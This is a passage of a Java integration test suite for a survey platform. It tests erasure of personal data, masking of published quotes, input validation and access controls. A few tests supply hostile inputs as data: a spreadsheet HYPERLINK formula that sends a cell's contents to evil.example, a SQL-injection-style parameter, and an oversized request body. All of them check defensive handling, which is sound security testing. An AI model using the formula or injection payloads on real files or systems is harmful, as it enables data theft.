            org.junit.jupiter.api.Assertions.assertEquals(java.util.List.of(), hits, "table.column still holding the person's data");

            String erased = awaitHook(hookBodies, b -> "contact.erased".equals(eventField(b, "type"))
                    && contact.equals(eventField(b, "contact.id")), "the contact.erased event");
            // The contact's id alone: no other member in the event, nor in its contact.
            org.junit.jupiter.api.Assertions.assertEquals(java.util.Set.of("id", "type", "createdAt", "contact"),
                    Json.object(erased).keySet(), erased);
            org.junit.jupiter.api.Assertions.assertEquals(java.util.Set.of("id"), Json.object(erased).getJsonObject("contact").keySet(), erased);
            org.junit.jupiter.api.Assertions.assertFalse(erased.contains(email) || erased.contains(lastName) || erased.contains(firstName)
                    || erased.contains(word), erased);
            String versions = executive.get("api/publications/" + publication + "/versions").body();
            org.junit.jupiter.api.Assertions.assertEquals(java.util.List.of("1"), Json.texts(Json.array(versions), "", "number"),
                    "the publication's history stays, without the quote: " + versions);

            // The suppression still holds when the address comes back.
            org.junit.jupiter.api.Assertions.assertEquals(200, marketer.sendJson("POST", "api/contacts/bulk",
                    "{\"contacts\":[{\"email\":\"" + email + "\"}]}").statusCode());
            org.junit.jupiter.api.Assertions.assertEquals("UNSUBSCRIBED", Respondents.rows("SELECT status FROM contact WHERE email = ?",
                    email).get(0).get("status"), "re-imported after the erasure, still unsubscribed");
        } finally {
            if (found != null) {
                found.putBack();
            }
            receiver.stop(0);
            if (campaign != null) {
                CampaignApi.cancelUnlessDone(marketer, campaign);
            }
        }
    }

    private static String secretOf(String issuedKey) {
        return Json.string(Json.object(issuedKey), "secret");
    }

    /** A field of a webhook event's body as text (numbers as written), or null when absent or not JSON. */
    private static String eventField(String body, String path) {
        try {
            JsonObject event = Json.object(body);
            return Json.has(event, path) && !Json.isNull(event, path) ? Json.text(event, path) : null;
        } catch (AssertionError notJson) {
            return null;
        }
    }

    /** The contactId of the response a webhook event is about, or -1. */
    private static long contactOf(String body) {
        String contact = eventField(body, "response.contactId");
        return contact == null ? -1 : Long.parseLong(contact);
    }

    private static String awaitHook(java.util.List<String> bodies, java.util.function.Predicate<String> which, String what)
            throws InterruptedException {
        for (int i = 0; i < 240; i++) {
            java.util.Optional<String> found = bodies.stream().filter(which).findFirst();
            if (found.isPresent()) {
                return found.get();
            }
            Thread.sleep(250);
        }
        throw new AssertionError("the webhook receiver did not get " + what + " within 60 s");
    }




    // ---------------------------------------------------------------------------------------------
    // 6. A public synthesis that never exposes a person.
    // ---------------------------------------------------------------------------------------------

    /**
     * Quotes holding an email, phones, a URL, their author's full name and another contact's name are published
     * masked: nothing of it on the public page (logged out) nor in the stored snapshot; an edited wording is
     * what is published, masked too, while the original comment stays internal; where the survey asks the
     * quote consent, a respondent who said no cannot be quoted (400).
     */
    @Test
    void aPublishedSynthesisShowsNoEmailPhoneUrlOrNameEvenInAQuote() throws Exception {
        WebClient marketer = AudienceApi.marketer(base);
        String run = Deployments.unique("mask");
        String suffix = run.substring(run.indexOf('-') + 1);
        // Names are letters only: digits would split a name into two words.
        String letters = suffix.chars().mapToObj(c -> String.valueOf(Character.isDigit(c) ? (char) ('a' + c - '0') : (char) c))
                .reduce("", String::concat).replaceAll("[^A-Za-z]", "");
        String authorLast = "Nob\u00e9court" + letters;
        String otherLast = "Vilmorin" + letters;
        String[] emails = {run + "-ana@exemple.fr", run + "-ben@exemple.fr", run + "-cyd@exemple.fr", run + "-gas@exemple.fr"};
        String[][] names = {{"Ana\u00efs", authorLast}, {"Benoit", "Quatremer" + letters}, {"Cyd", "Ostrander" + letters},
            {"Gaspard", otherLast}};
        for (int i = 0; i < emails.length; i++) {
            HttpResponse<String> contact = marketer.sendJson("POST", "api/contacts", "{\"email\":\"" + emails[i]
                    + "\",\"firstName\":\"" + names[i][0] + "\",\"lastName\":\"" + names[i][1] + "\",\"language\":\"FR\"}");
            assertEquals(201, contact.statusCode(), contact.body());
        }
        String survey = CampaignApi.survey(marketer, run);
        HttpResponse<String> asks = marketer.sendJson("PUT", "api/surveys/" + survey, "{\"askQuoteConsent\":true}");
        assertEquals(200, asks.statusCode(), asks.body());
        assertTrue(Json.bool(Json.object(asks), "askQuoteConsent"), asks.body());
        HttpResponse<String> journey = marketer.sendJson("POST", "api/campaigns", "{\"name\":\"" + run + "\",\"surveyId\":" + survey
                + ",\"kind\":\"JOURNEY\",\"triggerEvent\":\"MASK_" + suffix.toUpperCase(Locale.ROOT) + "\",\"triggerDelayDays\":7}");
        assertEquals(201, journey.statusCode(), journey.body());
        String campaign = AudienceApi.id(journey);

        String personal = "\u00c9crivez \u00e0 anais.nobecourt@exemple.fr ou au 06 12 34 56 78, sign\u00e9 Ana\u00efs " + authorLast
                + ". Note 9/10 le 12/03, 129,90 \u20ac, 2 fois " + suffix;
        String contactsNamed = "Appelez le +33 6 12 34 56 78 ou voyez https://exemple.fr/compte/42 ; merci \u00e0 Gaspard " + otherLast
                + " " + suffix;
        String refusing = "Ne me citez surtout pas " + suffix;
        String r1 = quotedAnswer(marketer, emails[0], 10, personal, true, "2026-04-02T09:00:00Z", campaign);
        String r2 = quotedAnswer(marketer, emails[1], 9, contactsNamed, true, "2026-04-03T09:00:00Z", campaign);
        String r3 = quotedAnswer(marketer, emails[2], 3, refusing, false, "2026-04-04T09:00:00Z", campaign);
        quotedAnswer(marketer, emails[0], 7, null, true, "2026-04-05T09:00:00Z", campaign);
        quotedAnswer(marketer, emails[2], 8, null, false, "2026-04-06T09:00:00Z", campaign);

        WebClient executive = AudienceApi.withKey(base, "EXECUTIVE");
        String draft = "{\"title\":\"April " + suffix + "\",\"language\":\"FR\",\"from\":\"2026-04-01\",\"to\":\"2026-04-30\","
                + "\"campaignId\":" + campaign + ",\"granularity\":\"MONTH\",\"quoteIds\":%s,\"quoteWordings\":%s}";

        // Said no to "may we quote you anonymously?": not a candidate, and refused when chosen.
        String candidates = executive.get("api/publications/quote-candidates?from=2026-04-01&to=2026-04-30&campaign=" + campaign).body();
        assertFalse(candidates.contains(refusing), candidates);
        assertTrue(candidates.contains("Note 9/10 le 12/03") && !candidates.contains("anais.nobecourt@exemple.fr"),
                "the editor lists the masked text: " + candidates);
        HttpResponse<String> refused = executive.sendJson("POST", "api/publications", String.format(draft, "[" + r1 + "," + r3 + "]", "[]"));
        assertEquals(400, refused.statusCode(), refused.body());
        assertTrue(Json.refusal(refused, "quoteIds").contains("Response " + r3 + ": its author did not agree to be quoted"), refused.body());

        // The executive edits the second quote's wording, trying to put personal data back in.
        String edited = "Service rapide, \u00e9crivez-moi : anais.nobecourt@exemple.fr, 0612345678, www.exemple.fr, Gaspard " + otherLast
                + " et Ana\u00efs " + authorLast + " " + suffix;
        HttpResponse<String> created = executive.sendJson("POST", "api/publications", String.format(draft, "[" + r1 + "," + r2 + "]",
                "[{\"responseId\":" + r2 + ",\"wording\":\"" + edited + "\"}]"));
        assertEquals(201, created.statusCode(), created.body());
        String id = AudienceApi.id(created);
        assertEquals("Service rapide, \u00e9crivez-moi : [\u2026], [\u2026], [\u2026], [\u2026] et [\u2026] " + suffix,
                Json.string(Json.only(Json.object(created), "quoteWordings", "responseId", r2), "wording"),
                "the wording is stored masked: " + created.body());
        HttpResponse<String> published = executive.sendJson("POST", "api/publications/" + id + "/publish", "");
        assertEquals(200, published.statusCode(), published.body());
        assertEquals("PUBLISHED", Json.string(Json.object(published), "status"), published.body());
        String html = new WebClient(base).get("p/" + Json.string(Json.object(published), "slug")).body();
        assertTrue(html.contains("\u00c9crivez \u00e0 [\u2026] ou au [\u2026], sign\u00e9 [\u2026]. Note 9/10 le 12/03, 129,90 \u20ac, 2 fois " + suffix),
                "the first quote, masked, its scores, dates and prices intact: " + html);
        assertTrue(html.contains("Service rapide, \u00e9crivez-moi : [\u2026]"), "the edited wording is published: " + html);
        assertFalse(html.contains("Appelez le"), "not the original comment of an edited quote");
        assertNoPersonalData(html, authorLast, otherLast);

        // The stored snapshot (and the stored wording) hold none of it either; the original comments stay internal.
        try (Connection db = DriverManager.getConnection(System.getProperty("it.db.url"), System.getProperty("it.db.user", "postgres"),
                System.getProperty("it.db.password", "postgres"))) {
            StringBuilder stored = new StringBuilder();
            try (PreparedStatement versions = db.prepareStatement("SELECT content FROM publication_version WHERE publication_id = ?"
                    + " UNION ALL SELECT wording FROM publication_quote WHERE publication_id = ?")) {
                versions.setLong(1, Long.parseLong(id));
                versions.setLong(2, Long.parseLong(id));
                try (ResultSet rs = versions.executeQuery()) {
                    while (rs.next()) {
                        stored.append(rs.getString(1)).append('\n');
                    }
                }
            }
            assertTrue(stored.toString().contains("Note 9/10") && stored.toString().contains("Service rapide"), stored.toString());
            assertNoPersonalData(stored.toString(), authorLast, otherLast);
            try (PreparedStatement original = db.prepareStatement("SELECT comment_text, quote_consent FROM response WHERE id = ? OR id = ?"
                    + " ORDER BY id")) {
                original.setLong(1, Long.parseLong(r2));
                original.setLong(2, Long.parseLong(r3));
                try (ResultSet rs = original.executeQuery()) {
                    assertTrue(rs.next());
                    assertEquals(contactsNamed, rs.getString(1), "the original comment is unchanged");
                    assertTrue(rs.getBoolean(2));
                    assertTrue(rs.next());
                    assertFalse(rs.getBoolean(2), "the no is kept");
                }
            }
        }
    }

    private static void assertNoPersonalData(String text, String authorLast, String otherLast) {
        for (String leak : new String[] {"anais.nobecourt@exemple.fr", "06 12 34 56 78", "+33 6 12 34 56 78", "0612345678",
            "exemple.fr/compte", "www.exemple.fr", "Ana\u00efs", authorLast, "Gaspard", otherLast}) {
            assertFalse(text.contains(leak), leak + " in " + text);
        }
        assertFalse(Pattern.compile("[\\w.+-]+@[\\w-]+\\.[\\w.]+").matcher(text).find(), "no email address at all: " + text);
    }

    private static String quotedAnswer(WebClient api, String email, int score, String comment, boolean quoteConsent, String at,
            String campaign) {
        HttpResponse<String> response = api.sendJson("POST", "api/responses", "{\"email\":\"" + email + "\",\"score\":" + score
                + (comment == null ? "" : ",\"comment\":\"" + comment + "\"") + ",\"contactConsent\":true,\"quoteConsent\":"
                + quoteConsent + ",\"channel\":\"PHONE\",\"respondedAt\":\"" + at + "\",\"campaignId\":" + campaign + "}");
        assertEquals(201, response.statusCode(), response.body());
        return AudienceApi.id(response);
    }



    // ---------------------------------------------------------------------------------------------
    // 7. Bad input gets a clear 4xx.
    // ---------------------------------------------------------------------------------------------

    /** A French contact with an invitation whose link is open; returns the link's token. */
    private String invitedToAnswer(WebClient api, String run) {
        String surveyId = CampaignApi.survey(api, run);
        String listId = AudienceApi.id(api.sendJson("POST", "api/lists", "{\"name\":\"" + run + "\"}"));
        String contactId = AudienceApi.id(api.sendJson("POST", "api/contacts", "{\"email\":\"" + run
                + "@exemple.fr\",\"firstName\":\"Zo\u00e9\",\"language\":\"FR\"}"));
        String campaignId = AudienceApi.id(api.sendJson("POST", "api/campaigns", "{\"name\":\"" + run + "\",\"surveyId\":"
                + surveyId + ",\"listId\":" + listId + "}"));
        org.npsloop.domain.campaign.InvitationToken token = org.npsloop.domain.campaign.InvitationToken.generate();
        // Sent an hour ago, as the dispatcher would have: no mail server needed to test the answer page.
        assertEquals(1, Respondents.update("INSERT INTO invitation (id, campaign_id, contact_id, wave, kind, status, token_hash, due_at,"
                + " sent_at, attempts, created_at, version, reminder) VALUES (nextval('invitation_seq'), ?, ?, 1, 'INITIAL', 'SENT', ?,"
                + " CURRENT_TIMESTAMP - INTERVAL '1 hour', CURRENT_TIMESTAMP - INTERVAL '1 hour', 1, CURRENT_TIMESTAMP, 0, 0)",
                Long.valueOf(campaignId), Long.valueOf(contactId), token.hash()));
        return token.secret();
    }

    private static String form(String text) {
        return java.net.URLEncoder.encode(text, java.nio.charset.StandardCharsets.UTF_8);
    }

    @Test
    void aCommentOverTheLimitIsRefusedInTheSurveysLanguageAndNothingIsStoredNorCut() {
        WebClient api = AudienceApi.marketer(base);
        String token = invitedToAnswer(api, Deployments.unique("sec7-comment"));
        HttpResponse<String> page = Respondents.get(base, "r/" + token + "?score=9", "en");
        assertTrue(page.body().contains("maxlength=\"2000\"") && page.body().contains("caract\u00e8res au plus"), page.body());

        String tooLong = "\uD83D\uDE00".repeat(2000) + "!";
        HttpResponse<String> refused = Respondents.post(base, "r/" + token, "score=9&comment=" + form(tooLong), "en");
        assertEquals(400, refused.statusCode(), refused.body());
        assertTrue(refused.body().contains("<html lang=\"fr\">") && refused.body().contains("Votre commentaire d\u00e9passe"),
                "the contact's language, not the browser's: " + refused.body());
        assertTrue(refused.body().contains(tooLong + "</textarea>"), "what was typed is given back, whole");
        assertNull(Respondents.response(token), "nothing stored, not even the score");

        // 2,000 emojis are 2,000 characters: kept whole; characters XML cannot hold are removed.
        String emojis = "\uD83D\uDE00".repeat(1999) + "\u0001\u000B!";
        assertEquals(303, Respondents.post(base, "r/" + token, "score=9&comment=" + form(emojis), "en").statusCode());
        assertEquals("\uD83D\uDE00".repeat(1999) + "!", Respondents.response(token).get("comment_text"));

        // Point made: the person is erased, so that the pages other tests look at never show this outlier.
        Object contactId = Respondents.rows("SELECT contact_id FROM invitation WHERE token_hash = ?",
                org.npsloop.domain.campaign.InvitationToken.hashOf(token)).get(0).get("contact_id");
        assertEquals(204, api.sendJson("DELETE", "api/contacts/" + contactId, "").statusCode());
    }

    @Test
    void aFullwidthDigitIsNotAScore() {
        WebClient api = AudienceApi.marketer(base);
        String run = Deployments.unique("sec7-score");
        String token = invitedToAnswer(api, run);
        HttpResponse<String> refused = Respondents.post(base, "r/" + token, "score=" + form("\uFF19"), "fr");
        assertEquals(400, refused.statusCode(), refused.body());
        assertTrue(refused.body().contains("Note invalide"), refused.body());
        assertNull(Respondents.response(token), "Integer.parseInt(\"\uFF19\") is 9: it must not become an answer");
        assertEquals(400, Respondents.get(base, "r/" + token + "?score=" + form("\u0669"), "en").statusCode());

        HttpResponse<String> typed = api.sendJson("POST", "api/responses", "{\"email\":\"" + run + "@exemple.fr\",\"score\":\"\uFF19\","
                + "\"respondedAt\":\"2026-01-05T10:00:00Z\"}");
        assertEquals(400, typed.statusCode(), typed.body());
        HttpResponse<String> longComment = api.sendJson("POST", "api/responses", "{\"email\":\"" + run + "@exemple.fr\",\"score\":9,"
                + "\"comment\":\"" + "x".repeat(2001) + "\",\"respondedAt\":\"2026-01-05T10:00:00Z\"}");
        assertEquals(400, longComment.statusCode(), longComment.body());
        assertEquals(List.of("comment"), Json.refusedFields(longComment), longComment.body());
    }

    /** A raw request declaring a body it does not send: the filter answers from the Content-Length alone. */
    private String declaringHugeBody(String path, String contentType) throws java.io.IOException {
        try (java.net.Socket socket = new java.net.Socket(base.getHost(), base.getPort())) {
            socket.setSoTimeout(10_000);
            String request = "POST " + base.getPath() + path + " HTTP/1.1\r\nHost: " + base.getHost() + ":" + base.getPort()
                    + "\r\nContent-Type: " + contentType + "\r\nAccept-Language: fr\r\nContent-Length: 60000000\r\n\r\n";
            socket.getOutputStream().write(request.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
            socket.getOutputStream().flush();
            java.io.ByteArrayOutputStream answer = new java.io.ByteArrayOutputStream();
            byte[] buffer = new byte[8192];
            java.io.InputStream in = socket.getInputStream();
            try {
                // Until the whole answer is in (page, JSON, or the last chunk), not until the 10 s timeout: the server may
                // keep the connection open after answering.
                for (int n; (n = in.read(buffer)) > 0; ) {
                    answer.write(buffer, 0, n);
                    String text = answer.toString(java.nio.charset.StandardCharsets.UTF_8);
                    if (text.contains("</html>") || text.stripTrailing().endsWith("}") || text.endsWith("\r\n0\r\n\r\n")) {
                        break;
                    }
                }
            } catch (java.net.SocketTimeoutException | java.net.SocketException e) {
                // The server closed the connection after its answer: what was read is the answer.
            }
            return answer.toString(java.nio.charset.StandardCharsets.UTF_8);
        }
    }

    @Test
    void aBodyOverTheLimitGets413WithTheFriendlyPageOrJson() throws Exception {
        String page = declaringHugeBody("r/abcdefghijklmnopqrstuv", "application/x-www-form-urlencoded");
        assertTrue(page.startsWith("HTTP/1.1 413"), page);
        assertTrue(page.contains("Envoi trop volumineux"), "the friendly page, in the visitor's language: " + page);
        String json = declaringHugeBody("api/contacts", "application/json");
        assertTrue(json.startsWith("HTTP/1.1 413"), json);
        // The body of the raw answer, past its headers (and any chunk size line): the API's JSON error.
        String body = json.substring(json.indexOf("\r\n\r\n") + 4);
        assertTrue(body.indexOf('{') >= 0, json);
        assertEquals(413, Json.number(Json.object(body.substring(body.indexOf('{'), body.lastIndexOf('}') + 1)), "status"), json);

    }

    @Test
    void aBadReportParameterIsA400NamingIt() {
        WebClient api = AudienceApi.marketer(base);
        HttpResponse<String> dimension = api.get("api/reports/breakdown?dimension=COLOUR");
        assertEquals(400, dimension.statusCode(), dimension.body());
        assertEquals(List.of("dimension"), Json.refusedFields(dimension), dimension.body());
        HttpResponse<String> malformed = api.get("api/reports/dashboard?attribute=" + form("plan'; --") + "&value=x");
        assertEquals(400, malformed.statusCode(), malformed.body());
        assertEquals(List.of("attribute"), Json.refusedFields(malformed), malformed.body());
        HttpResponse<String> unknown = api.get("api/reports/dashboard?attribute=" + Deployments.unique("nothing").replace('-', '_')
                + "&value=x");
        assertEquals(400, unknown.statusCode(), unknown.body());
        assertEquals(List.of("attribute"), Json.refusedFields(unknown), unknown.body());
        HttpResponse<String> by = api.get("api/reports/breakdown?dimension=ATTRIBUTE&by=no_such_attribute_at_all");
        assertEquals(400, by.statusCode(), by.body());
        assertEquals(List.of("by"), Json.refusedFields(by), by.body());
    }

    /** The status of a started CSV import once it has finished (or after 20 s). */
    private static String finishedImport(WebClient api, HttpResponse<String> started) throws InterruptedException {
        assertEquals(202, started.statusCode(), started.body());
        String status = started.body();
        for (int i = 0; i < 80 && !List.of("DONE", "FAILED").contains(Json.string(Json.object(status), "status")); i++) {
            Thread.sleep(250);
            status = api.get("api/imports/" + AudienceApi.id(started)).body();
        }
        return status;
    }

    @Test
    void the31stOfFebruaryIsRefusedByTheApiAndByAnImportWithItsLine() throws Exception {
        WebClient api = AudienceApi.marketer(base);
        String run = Deployments.unique("sec7-date");
        String attribute = "d_" + run.replaceAll("[^A-Za-z0-9]", "_").toLowerCase(java.util.Locale.ROOT);
        assertEquals(201, api.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "-a@exemple.fr\",\"attributes\":{\""
                + attribute + "\":\"2025-02-28\"}}").statusCode());
        HttpResponse<String> refused = api.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "-b@exemple.fr\",\"attributes\":{\""
                + attribute + "\":\"31/02/2025\"}}");
        assertEquals(400, refused.statusCode(), refused.body());
        assertEquals(List.of("attributes." + attribute), Json.refusedFields(refused), refused.body());
        assertEquals(0, Json.number(Json.object(api.get("api/contacts?q=" + run + "-b").body()), "total"), "not stored as 28 February");

        String csv = "email;" + attribute + "\r\n" + run + "-c@exemple.fr;28/02/2025\r\n" + run + "-d@exemple.fr;31/02/2025\r\n";
        String mapping = "{\"email\":0,\"attributes\":[{\"column\":1,\"name\":\"" + attribute + "\",\"type\":\"DATE\"}]}";
        HttpResponse<String> started = api.send("POST", "api/imports?fileName=dates.csv&mapping=" + form(mapping), "text/csv",
                csv.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        String jobId = AudienceApi.id(started);
        String status = finishedImport(api, started);
        assertEquals(List.of("DONE", 1L, 1L), List.of(Json.string(Json.object(status), "status"), Json.number(Json.object(status), "imported"),
                Json.number(Json.object(status), "rejected")), status);
        String report = api.get("api/imports/" + jobId + "/report").body();
        assertTrue(report.contains("3;" + attribute + ": not a date"), report);
    }

    @Test
    void percentAndUnderscoreInASearchMatchThemselves() {
        WebClient api = AudienceApi.marketer(base);
        String run = Deployments.unique("sec7-like");
        api.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "-a@exemple.fr\",\"lastName\":\"" + run + " 50% off\"}");
        api.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "-b@exemple.fr\",\"lastName\":\"" + run + " 500 off\"}");
        api.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "-c@exemple.fr\",\"lastName\":\"" + run + " 5X0 off\"}");
        String percent = api.get("api/contacts?q=" + form(run + " 50%")).body();
        assertEquals(1, Json.number(Json.object(percent), "total"), percent);
        assertEquals(List.of(run + "-a@exemple.fr"), Json.texts(Json.object(percent), "rows", "email"), percent);
        String underscore = api.get("api/contacts?q=" + form(run + " 5_0")).body();
        assertEquals(0, Json.number(Json.object(underscore), "total"), underscore);
    }

    @Test
    void aContactNamedLikeAFormulaIsExportedInertAndImportsBackAsItWas() throws Exception {
        WebClient api = AudienceApi.marketer(base);
        String run = Deployments.unique("sec7-csv");
        String listId = AudienceApi.id(api.sendJson("POST", "api/lists", "{\"name\":\"" + run + "\"}"));
        String formula = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1;\\\"x\\\")";
        assertEquals(200, api.sendJson("POST", "api/contacts/bulk", "{\"listId\":" + listId + ",\"contacts\":[{\"email\":\"" + run
                + "@exemple.fr\",\"firstName\":\"" + formula + "\",\"lastName\":\"-Dupont\"}]}").statusCode());
        String exported = api.get("api/lists/" + listId + "/export").body();
        assertTrue(exported.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"x\"\")\"") && exported.contains(";'-Dupont;"), exported);

        // The export imported again (into the same contacts) leaves the names as they were.
        HttpResponse<String> started = api.send("POST", "api/imports?fileName=export.csv", "text/csv",
                exported.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        String status = finishedImport(api, started);
        assertEquals(List.of("DONE", 0L), List.of(Json.string(Json.object(status), "status"), Json.number(Json.object(status), "rejected")),
                status);
        String contact = api.get("api/contacts?q=" + run).body();
        JsonObject row = Json.only(Json.object(contact), "rows", "email", run + "@exemple.fr");
        assertEquals(List.of("=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")", "-Dupont"),
                List.of(Json.string(row, "firstName"), Json.string(row, "lastName")), "as it was: " + contact);
    }

    /**
     * A Faces form posted without the page's CSP nonce (no browser does that: PrimeFaces' script adds it)
     * gets a 400 page before its action runs, not a 500 after it: here the new password is not stored.
     */
    @Test
    void aFormPostedWithoutItsPageNonceIsRefusedWith400AndChangesNothing() {
        WebClient admin = new WebClient(base);
        admin.login(Deployments.adminUsername(), Deployments.adminPassword());
        String name = Deployments.unique("nonce");
        assertEquals(201, admin.sendJson("POST", "api/users",
                "{\"username\":\"" + name + "\",\"roles\":[\"MARKETER\"],\"password\":\"Temporary-pass-1\"}").statusCode());
        WebClient user = new WebClient(base);
        user.login(name, "Temporary-pass-1");
        HttpResponse<String> page = user.get("account/password.xhtml");
        Map<String, String> form = new LinkedHashMap<>();
        form.put("passwordForm", "passwordForm");
        form.put("passwordForm:current", "Temporary-pass-1");
        form.put("passwordForm:newPassword", "Never-stored-42");
        form.put("passwordForm:confirmation", "Never-stored-42");
        form.put("passwordForm:submit", "");
        form.put("jakarta.faces.ViewState", WebClient.viewState(page.body()));
        HttpResponse<String> refused = user.postForm("account/password.xhtml", form);
        assertEquals(400, refused.statusCode(), refused.body());
        assertTrue(refused.body().contains("Form refused"), refused.body());

        String landing = new WebClient(base).login(name, "Never-stored-42");
        assertTrue(landing.contains("failed"), "the new password was not stored: " + landing);
    }

    /** A day that does not exist, typed into a date picker of the admin UI, is refused on its field, not moved to 28 February. */
    @Test
    void theDatePickersRefuseADayThatDoesNotExist() {
        User user = newUser("MARKETER");
        WebClient marketer = new WebClient(base);
        marketer.login(user.name(), user.password());
        HttpResponse<String> page = marketer.get("reports/comments.xhtml");
        Map<String, String> form = new LinkedHashMap<>();
        form.put("filters", "filters");
        form.put("filters:from_input", "2025-02-31");
        form.put("filters:to_input", "2025-03-31");
        form.put("filters:apply", "");
        form.put("jakarta.faces.ViewState", WebClient.viewState(page.body()));
        form.put(WebClient.CSP_NONCE_FIELD, WebClient.cspNonce(page.body()));
        HttpResponse<String> refused = marketer.postForm("reports/comments.xhtml", form);
        assertEquals(200, refused.statusCode(), refused.body());
        // The field's message and the field, kept as typed and marked in error.
        assertTrue(refused.body().contains("Not a day that exists: 2025-02-31"), refused.body());
        assertTrue(Pattern.compile("id=\"filters:from_input\"[^>]*value=\"2025-02-31\"[^>]*ui-state-error").matcher(refused.body()).find(),
                refused.body());
        assertFalse(refused.body().contains("2025-02-28"), "never read as 28 February");
    }

    // ---------------------------------------------------------------------------------------------
    // 8. Smaller doors.
    // ---------------------------------------------------------------------------------------------



    @Test
    void metricsAndTheApiDescriptionAreForAdministratorsOnlyAndHealthStaysPublic() {
        WebClient anonymous = new WebClient(base);
        for (String door : new String[] {"metrics", "openapi"}) {
            HttpResponse<String> refused = anonymous.get(door);
            assertTrue(refused.statusCode() == 401 || refused.statusCode() == 302 && refused.headers()
                    .firstValue("Location").orElse("").contains("/login.xhtml"), door + ": " + refused.statusCode());
            assertFalse(refused.body().contains("# TYPE") || refused.body().contains("/api/contacts"), refused.body());
        }
        assertEquals(200, anonymous.get("health/ready").statusCode());
        assertEquals(200, anonymous.get("health/live").statusCode());

        WebClient admin = signedInDoorsAdmin();
        WebClient marketer = doorsUser(admin, null, "MARKETER");
        assertEquals(403, marketer.get("metrics").statusCode());
        assertEquals(403, marketer.get("openapi").statusCode());

        assertEquals(200, admin.get("metrics").statusCode());
        assertTrue(admin.get("openapi").body().contains("/api/contacts"));
        // A Prometheus scraper: an ADMIN API key, no session.
        WebClient scraper = doorsApiKey(admin, "ADMIN");
        HttpResponse<String> scraped = scraper.get("metrics");
        assertEquals(200, scraped.statusCode());
        assertTrue(scraped.body().contains("# TYPE"), "Prometheus text format");
        assertEquals(200, scraper.get("openapi").statusCode());
        assertEquals(401, new WebClient(base).withHeader("Authorization", "Bearer nps_unknown").get("metrics").statusCode());
        // Another role's key is refused too.
        HttpResponse<String> marketerKey = doorsApiKey(admin, "MARKETER").get("metrics");
        assertEquals(403, marketerKey.statusCode());
        assertFalse(marketerKey.body().contains("# TYPE"), marketerKey.body());
    }

    @Test
    void theApiPublishesNoWadl() throws Exception {
        WebClient marketer = doorsApiKey(signedInDoorsAdmin(), "MARKETER");
        assertEquals(404, new WebClient(base).get("api/application.wadl").statusCode());
        assertEquals(404, marketer.get("api/application.wadl").statusCode());
        HttpResponse<String> options = HttpClient.newHttpClient().send(HttpRequest.newBuilder(new WebClient(base)
                .resolve("api/contacts")).method("OPTIONS", HttpRequest.BodyPublishers.noBody()).build(),
                HttpResponse.BodyHandlers.ofString());
        assertFalse(options.headers().firstValue("Content-Type").orElse("").contains("wadl"), options.headers().toString());
        assertFalse(options.body().contains("<application") || options.body().contains("wadl"), options.body());
    }

    @Test
    void anUploadOverTheCapIsRefusedWith413AndNothingIsImported() throws Exception {
        long cap = Long.parseLong(System.getProperty("it.upload.max-bytes"));
        String run = Deployments.unique("cap");
        StringBuilder csv = new StringBuilder("email;firstName\n");
        for (int i = 0; csv.length() <= cap; i++) {
            csv.append(run).append('-').append(i).append("@exemple.fr;Padding-").append("x".repeat(60)).append('\n');
        }
        byte[] tooLarge = csv.toString().getBytes(StandardCharsets.UTF_8);
        String key = "Bearer " + doorsKey(signedInDoorsAdmin(), "MARKETER");
        WebClient marketer = new WebClient(base).withHeader("Authorization", key);

        // Declared by Content-Length: refused before reading.
        HttpResponse<String> declared = marketer.send("POST", "api/imports?fileName=" + run + ".csv", "text/csv", tooLarge);
        assertEquals(413, declared.statusCode(), declared.body());
        assertEquals(413, Json.number(Json.object(declared), "status"), declared.body());
        assertTrue(Json.string(Json.object(declared), "message").contains("limit of " + cap + " bytes"), declared.body());
        HttpResponse<String> events = marketer.send("POST", "api/events/import", "text/csv", tooLarge);
        assertEquals(413, events.statusCode(), events.body());

        // Streamed without a length: cut off at the cap, the part already read thrown away.
        HttpResponse<String> streamed = HttpClient.newHttpClient().send(HttpRequest.newBuilder(marketer
                .resolve("api/imports?fileName=" + run + "-streamed.csv")).header("Authorization", key)
                .header("Content-Type", "text/csv").header("Accept", "application/json")
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(tooLarge))).build(),
                HttpResponse.BodyHandlers.ofString());
        assertEquals(413, streamed.statusCode(), streamed.body());

        assertFalse(marketer.get("api/imports").body().contains(run), "no import job was created");
        assertEquals(0, Json.number(Json.object(marketer.get("api/contacts?q=" + run).body()), "total"), "no contact was stored");
        // Under the cap the same endpoint works.
        HttpResponse<String> small = marketer.send("POST", "api/imports?fileName=" + run + "-small.csv", "text/csv",
                ("email\n" + run + "-small@exemple.fr\n").getBytes(StandardCharsets.UTF_8));
        assertEquals(202, small.statusCode(), small.body());
    }

    @Test
    void aTestMessageGoesOnlyToTheUsersOwnOrAnAllowedAddressAndNeverToASuppressedOne() throws Exception {
        String run = Deployments.unique("doors-test");
        WebClient admin = signedInDoorsAdmin();
        String own = run + "-me@exemple.fr";
        WebClient marketer = doorsUser(admin, own, "MARKETER");
        HttpResponse<String> created = marketer.sendJson("POST", "api/surveys", "{\"name\":\"" + run + "\",\"brandName\":\"Acme\"}");
        assertEquals(201, created.statusCode(), created.body());
        String test = "api/surveys/" + AudienceApi.id(created) + "/test";

        String stranger = run + "-stranger@exemple.fr";
        HttpResponse<String> toStranger = marketer.sendJson("POST", test, "{\"to\":\"" + stranger + "\"}");
        assertEquals(403, toStranger.statusCode(), toStranger.body());
        assertTrue(toStranger.body().contains("only to your own address or to an address an administrator allowed"), toStranger.body());

        String blocked = run + "-blocked@acme.example";
        assertEquals(201, marketer.sendJson("POST", "api/suppressions", "{\"email\":\"" + blocked + "\"}").statusCode());
        HttpResponse<String> toSuppressed = marketer.sendJson("POST", test, "{\"to\":\"" + blocked + "\"}");
        assertEquals(403, toSuppressed.statusCode(), toSuppressed.body());
        assertTrue(toSuppressed.body().contains("suppression list"), toSuppressed.body());

        HttpResponse<String> toMe = marketer.sendJson("POST", test, "{\"to\":\"" + own.toUpperCase(Locale.ROOT) + "\"}");
